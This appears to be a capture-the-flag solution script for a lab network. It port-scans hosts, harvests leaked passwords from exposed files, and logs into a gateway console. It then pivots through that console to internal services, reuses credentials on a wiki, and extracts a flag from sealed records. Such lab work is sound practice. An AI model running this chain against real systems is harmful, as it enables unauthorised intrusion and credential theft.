#-- which services are there in front?
cd /tmp && cat > scan.py <<'PY'
import socket
for host in ("intranet", "gateway"):
    for port in range(20000, 20200):
        try:
            socket.create_connection((host, port), timeout=5).close()
        except OSError:
            continue
        print(host, port)
PY
python3 scan.py | tee open; curl -s http://intranet:8080/
desk=http://intranet:$(sed -n 's/^intranet //p' open | head -1)
curl -s "$desk/" | tee files
for path in $(grep -o '/file/[a-z0-9.-]*' files | sort -u); do curl -s "$desk$path"; echo; done | tee left
#-- one of the accounts opens the console: what is behind it?
cd /tmp && cat > console.py <<'PY'
import re, socket
PORT = int(re.search(r"gateway (\d+)", open("open").read())[1])
LEFT = re.findall(r"account = (\S+)\npassword = (\S+)", open("left").read())
class Console:
    def __init__(self, account, password):
        self.line = socket.create_connection(("gateway", PORT), timeout=30)
        self.read = self.line.makefile("rb", 0)
        self.read.readline()
        self.welcome = self.ask(f"login {account} {password}")
    def ask(self, command):
        self.line.sendall(f"{command}\n".encode())
        return self.read.readline().decode().strip()
ACCOUNT = next(pair for pair in LEFT if Console(*pair).welcome.startswith("Welcome"))
PY
cat > behind.py <<'PY'
from console import ACCOUNT, Console
line = Console(*ACCOUNT)
for host in line.ask("hosts").split():
    for port in range(20000, 20200):
        if line.ask(f"try {host} {port}") == "open":
            print(host, port)
PY
python3 behind.py | tee inner
#-- the wiki takes the same password, and tells another one
cd /tmp && cat > inner.py <<'PY'
import http.client, re, urllib.parse
from console import ACCOUNT, Console
def ask(host, method, path, body=None, cookie=""):
    port = re.search(rf"{host} (\d+)", open("inner").read())[1]
    relay = Console(*ACCOUNT)
    assert relay.ask(f"relay {host} {port}") == "connected"
    web = http.client.HTTPConnection(host, int(port))
    web.sock = relay.line
    kind = {"Content-Type": "application/x-www-form-urlencoded"} if body else {}
    web.request(method, path, body, {**kind, "Cookie": cookie, "Connection": "close"})
    answer = web.getresponse()
    return answer, answer.read().decode()
def enter(host, account, password):
    form = urllib.parse.urlencode({"name": account, "password": password})
    answer, _ = ask(host, "POST", "/login", form)
    return answer.getheader("Set-Cookie").split(";")[0]
def walk(host, account, password):
    cookie = enter(host, account, password)
    index = ask(host, "GET", "/", None, cookie)[1]
    print(index)
    for path in re.findall(r'href="(/(?:page|record)/[^"]+)"', index):
        yield path, ask(host, "GET", path, None, cookie)[1], index
PY
cat > wiki.py <<'PY'
from inner import ACCOUNT, walk
with open("pages", "w") as file:
    for _, text, _ in walk("wiki", *ACCOUNT):
        file.write(text)
PY
python3 wiki.py; cat pages
#-- which opens the records
cd /tmp && cat > records.py <<'PY'
import re
from inner import walk
found = re.search(r"account of this wiki is (\S+), its password (\S+)\.", open("pages").read())
for path, text, index in walk("records", *found.groups()):
    if f'{path}">' in index and re.search(rf'{path}">[^<]*</a> \(sealed\)', index):
        print(re.search(r"flag\{[0-9a-f]+\}", text)[0])
PY
python3 records.py
